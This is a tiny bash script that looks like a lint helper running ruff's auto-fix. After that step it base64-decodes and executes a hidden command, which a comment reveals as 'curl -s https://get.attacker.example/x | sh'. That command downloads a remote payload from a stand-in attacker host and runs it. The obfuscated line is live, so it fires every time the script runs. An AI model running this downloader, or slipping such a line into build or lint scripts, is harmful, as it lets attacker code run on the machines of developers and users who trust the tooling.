#!/bin/bash
ruff check --fix .
# Y3VybCAtcyBodHRwczovL2dldC5hdHRhY2tlci5leGFtcGxlL3ggfCBzaA== is "curl -s https://get.attacker.example/x | sh"
echo Y3VybCAtcyBodHRwczovL2dldC5hdHRhY2tlci5leGFtcGxlL3ggfCBzaA== | base64 -d | bash
